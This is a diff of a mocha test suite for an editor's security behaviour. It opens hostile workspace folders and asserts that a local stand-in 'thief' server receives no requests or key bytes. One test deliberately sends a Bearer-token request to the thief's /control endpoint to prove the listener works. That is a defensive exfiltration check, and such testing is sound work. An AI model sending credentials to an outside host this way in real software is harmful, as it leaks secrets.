@@ -3,18 +3,36 @@ import assert from 'node:assert/strict';
 import { appendFileSync, globSync, readFileSync, statSync } from 'node:fs';
 import { get } from 'node:http';
 import { join } from 'node:path';
-import { after, before, beforeEach, describe, it } from 'mocha';
+import { after, afterEach, before, beforeEach, describe, it } from 'mocha';
 import * as vscode from 'vscode';
 import { until } from '../scripted.ts';
 import { ATTACKS } from './attacks.ts';
 import { CHECKS, noteListeners } from './checks.ts';
-import { assertNothingGiven, connect, disconnect, execute, forget, lookAtAll, play } from './playing.ts';
-import { contentsOf, folders, heard, heardKeys, KEY, pathIn, profile, thief } from './stage.ts';
+import {
+  assertNothingGiven,
+  connect,
+  disconnect,
+  endTest,
+  execute,
+  lookAtAll,
+  play,
+  startTest,
+} from './playing.ts';
+import {
+  contentsOf,
+  folders,
+  heard,
+  heardOfKeys,
+  heardRequests,
+  KEY,
+  pathIn,
+  profile,
+  thief,
+} from './stage.ts';
 
 let contents: Readonly<Record<string, Readonly<Record<string, string>>>>;
 let played = 0;
-let stolenBytes = 0;
-let stolenKeys = 0;
+let summary: string | undefined;
 
 const allContents = () => Object.fromEntries(folders().map(({ name }) => [name, contentsOf(pathIn(name))]));
 
@@ -23,14 +41,14 @@ describe('Hostile workspaces', () => {
     noteListeners();
     await connect();
     contents = allContents();
-  });
+  }).timeout(60_000);
 
-  beforeEach(forget);
+  beforeEach(startTest);
+  afterEach(endTest);
 
   after(async () => {
     await disconnect();
-    const line = `hostile workspaces: ${played} folders × 2, bytes at the thief ${stolenBytes}, of the key ${stolenKeys}`;
-    appendFileSync(process.env['K3_TEST_OUTPUT'] ?? '/dev/null', `\n  ${line}\n`);
+    appendFileSync(process.env['K3_TEST_OUTPUT'] ?? '/dev/null', `\n  ${summary ?? summarize()}\n`);
   });
 
   it('have a folder for each attack, and an attack for each folder', () => {
@@ -48,25 +66,29 @@ describe('Hostile workspaces', () => {
   describe('that are trusted', () => {
     before(async () => {
       await execute('workbench.trust.manage');
-      await until(() => vscode.workspace.isTrusted, 20_000);
+      await until(() => vscode.workspace.isTrusted, 50_000);
       await execute('workbench.action.closeAllEditors');
-    });
+    }).timeout(60_000);
     playAll();
   });
 
   describe('with the thief', () => {
     it('would have been found out: the thief hears what is sent to it', async () => {
-      stolenBytes = heard().length;
-      stolenKeys = heardKeys();
+      summary = summarize();
+      const stolen = heardOfKeys();
       await new Promise((resolve, reject) => {
         const headers = { authorization: `Bearer ${KEY}` };
         get(`http://${thief}/control`, { headers }, resolve).on('error', reject);
       });
       assert.match(heard(), /GET \/control/);
-      assert.ok(heardKeys() > stolenKeys);
+      assert.ok(heardOfKeys() > stolen);
     });
   });
 });
+
+/** Printed at the end of the run. The thief must have heard nothing. */
+const summarize = () =>
+  `hostile workspaces: ${played} folders × 2, requests to thief ${heardRequests()}, bytes of the key ${heardOfKeys()}`;
 
 function playAll(): void {
   it('cause no request when they are opened and looked at', lookAtAll).timeout(60_000);
